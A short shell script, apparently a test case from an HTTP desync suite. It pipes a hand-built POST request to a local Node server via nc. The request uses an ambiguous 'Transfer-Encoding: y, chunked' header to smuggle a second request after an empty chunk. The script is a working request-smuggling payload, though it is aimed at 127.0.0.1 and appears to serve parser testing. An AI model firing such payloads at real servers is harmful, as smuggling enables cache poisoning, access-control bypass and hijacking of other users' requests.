#!/bin/sh
# desync/te-unknown-coding/smuggled-request via stream.concatenate against node
printf 'POST / HTTP/1.1\r\nHost:127.0.0.1:58937\r\nTransfer-Encoding:y, chunked\r\n\r\n0\r\n\r\nGET tp://.\n\r\n' | nc 127.0.0.1 ${PORT:-58937}
